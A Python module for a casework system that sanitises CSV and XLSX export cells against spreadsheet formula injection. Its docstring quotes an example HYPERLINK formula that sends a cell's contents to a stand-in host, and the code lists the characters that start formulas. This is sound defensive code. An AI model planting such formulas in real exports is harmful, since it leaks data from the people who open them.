"""Cells for the spreadsheets casework hands out (CSV and XLSX exports): never a formula.

A host name typed as ``=HYPERLINK("https://x/?"&B2,"详情")`` is stored as typed; a spreadsheet
opening an export would run it (OWASP, CSV injection). Every text cell that a spreadsheet
would read as a formula or a command (leading ``=``, ``+``, ``-``, ``@``, tab or CR) gets a
leading apostrophe, so that it is shown as the text it is; numbers stay numbers, and money
("30000.00", "-30000.00") becomes a number in a workbook, which a clerk can add up.
"""

from __future__ import annotations

import datetime as dt
import re
import uuid
from decimal import Decimal
from typing import Any

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(\.\d+)?")
_MONEY = re.compile(r"-?\d+\.\d{2}")


def text_cell(value: str) -> str:
    """A text value as a cell that no spreadsheet evaluates."""
    if value.startswith(_FORMULA_START) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """A value for a CSV export (None is an empty cell)."""
    if value is None:
        return ""
    return text_cell(value) if isinstance(value, str) else value


def xlsx_cell(value: Any) -> Any:
    """A value for a workbook: money as a number, text as neutral text, no UUIDs or time zones
    (Excel knows neither)."""
    if isinstance(value, uuid.UUID):
        return str(value)
    if isinstance(value, dt.datetime) and value.tzinfo is not None:
        return value.astimezone(dt.UTC).replace(tzinfo=None)
    if isinstance(value, str):
        if _MONEY.fullmatch(value):
            return Decimal(value)
        return text_cell(value)
    return value
